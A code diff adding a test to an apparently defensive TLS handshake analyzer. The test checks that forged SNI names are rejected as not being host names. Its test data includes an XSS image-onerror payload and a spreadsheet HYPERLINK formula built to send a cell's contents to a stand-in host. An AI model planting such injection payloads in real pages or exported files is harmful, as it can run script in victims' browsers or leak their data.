@@ -42,3 +42,15 @@ def test_a_retransmitted_client_hello_cannot_rewrite_the_first_copy(tmp_path):
             assert r.sni == first, (first, longer)
             # (the handshake is not complete: judged on the first copy's name)
             assert (r.reason == "host_mismatch") == (first == FORGED), (r.verdict, r.reason)
+
+
+def test_a_name_no_host_could_have_is_under_no_mask(tmp_path):
+    """F8: an SNI holding markup or a formula (RFC 6066 §3: an SNI is a DNS host name) is not
+    taken for a name under ``*.ksc.kaspersky.com``."""
+    for i, sni in enumerate(("<img src=x onerror=alert(1)>.ksc.kaspersky.com",
+                             '=HYPERLINK("http://x.example/?"&A1,"c").ksc.kaspersky.com')):
+        path = write(tmp_path, [(t, bytes(p)) for t, p in _two_hellos(sni, sni)], name=f"bad{i}.pcap")
+        r = row(assert_same(path, [200]), resp_p=23101)
+        assert r.sni == sni
+        assert (r.verdict, r.reason) == ("unexpected", "host_mismatch")
+        assert r.detail == f"{sni} is not a host name (an SNI or DNS name holding characters no host name has: forged or damaged)"
